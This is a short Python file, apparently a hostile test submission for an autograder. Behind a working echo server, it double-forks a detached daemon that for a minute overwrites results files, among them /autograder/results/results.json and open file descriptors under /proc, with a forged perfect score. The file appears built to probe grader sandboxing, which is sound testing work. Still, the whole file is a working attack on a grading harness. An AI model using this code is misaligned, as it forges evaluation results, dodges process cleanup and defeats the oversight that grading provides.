"""Hostile lab 01 submission: a correct echo server that, at each start,
leaves a daemon behind (double fork, setsid: no process group holds it).
The daemon waits for the grader to finish and then tries to rewrite every
results file it can think of with a perfect score, for a minute."""

import glob
import os
import time

import echo_server

FORGED = '{"score": 1000, "tests": []}\n'
TARGETS = ["/autograder/results/results.json", "results.json", "../results.json",
           "/tmp/results.json", os.path.expanduser("~/results.json")]


def daemon():
    end = time.time() + 60
    while time.time() < end:
        paths = TARGETS + glob.glob("/proc/[0-9]*/fd/[34]") + glob.glob("/**/results.json", recursive=False)
        for path in paths:
            try:
                with open(path, "w") as file:
                    file.write(FORGED)
            except OSError:
                pass
        time.sleep(0.2)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        daemon()
    os._exit(0)
os.wait()
echo_server.main()
